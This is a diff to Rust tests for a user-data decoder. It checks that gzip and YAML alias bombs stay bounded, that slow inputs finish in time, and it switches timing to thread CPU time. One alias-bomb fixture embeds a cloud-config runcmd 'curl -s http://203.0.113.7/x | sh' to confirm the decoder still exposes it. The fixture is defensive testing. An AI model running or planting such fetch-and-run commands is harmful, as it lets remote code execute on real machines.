@@ -1,10 +1,21 @@
 //! Bombs: what grows when decoded, and what costs time.
 
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use super::super::{MAX_DEPTH, MAX_LAYER, MAX_PARTS, MAX_TOTAL, decode};
 use super::{base64, gzip, runs, undecodable};
 use crate::user_data::{Content, Piece};
+
+/// CPU time of this thread so far: a busy machine makes no test fail.
+fn cpu() -> Duration {
+    let spent = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap();
+    Duration::from_nanos(spent.split(' ').next().unwrap().parse().unwrap())
+}
+
+/// 50 ms, and ten times that for a debug build.
+fn limit() -> Duration {
+    Duration::from_millis(if cfg!(debug_assertions) { 500 } else { 50 })
+}
 
 /// Bytes of text handed on.
 fn text(pieces: &[Piece]) -> usize {
@@ -23,9 +34,10 @@ fn a_decompression_bomb_stops_at_a_mebibyte() {
     let mut script = b"#!/bin/sh\nfirst\n".to_vec();
     script.resize(64 << 20, b'\n');
     let bomb = gzip(&script);
-    let started = Instant::now();
+    let started = cpu();
     let decoded = decode(&bomb);
-    assert!(started.elapsed() < Duration::from_millis(500), "{:?}", started.elapsed());
+    let took = cpu() - started;
+    assert!(took < limit(), "{took:?}");
     assert_eq!(undecodable(&decoded), ["gzip: inflates to more than 1 MiB"]);
     assert!(runs(&decoded, "first") && text(&decoded.pieces) <= MAX_LAYER + 100);
 }
@@ -75,9 +87,10 @@ fn an_alias_bomb_is_bounded_and_hides_nothing() {
         bomb.push_str(&format!("a{level}: &a{level} [{aliases}]\n"));
     }
     bomb.push_str("runcmd:\n  - *a11\n  - curl -s http://203.0.113.7/x | sh\n");
-    let started = Instant::now();
+    let started = cpu();
     let decoded = decode(bomb.as_bytes());
-    assert!(started.elapsed() < Duration::from_millis(500), "{:?}", started.elapsed());
+    let took = cpu() - started;
+    assert!(took < limit(), "{took:?}");
     assert!(undecodable(&decoded).iter().any(|reason| reason == "YAML: expands beyond the bounds"));
     assert!(runs(&decoded, "curl -s http://203.0.113.7/x | sh"));
     assert!(text(&decoded.pieces) < MAX_TOTAL);
@@ -98,10 +111,9 @@ fn a_command_behind_thousands_is_still_read() {
     assert!(decoded.pieces.len() < 3000);
 }
 
-/// Inputs built to be slow. Debug builds are allowed ten times the 50 ms of a release build.
+/// Inputs built to be slow.
 #[test]
 fn nothing_of_16_kib_is_slow() {
-    let limit = Duration::from_millis(if cfg!(debug_assertions) { 500 } else { 50 });
     let size = 16 * 1024;
     let fill = |text: &str| text.repeat(size / text.len());
     let config = |text: &str| format!("#cloud-config\n{text}");
@@ -150,11 +162,10 @@ fn nothing_of_16_kib_is_slow() {
     let members = gzip(b"").repeat(size / gzip(b"").len());
     for (what, input) in inputs {
         let bytes = if what == "gzip members" { &members } else { input.as_bytes() };
-        let started = Instant::now();
+        let started = cpu();
         let decoded = decode(bytes);
-        let took = started.elapsed();
-        eprintln!("{what}: {took:?}");
-        assert!(took < limit, "{what}: {took:?}");
+        let took = cpu() - started;
+        assert!(took < limit(), "{what}: {took:?}");
         assert!(text(&decoded.pieces) <= 2 * MAX_TOTAL, "{what}");
     }
 }
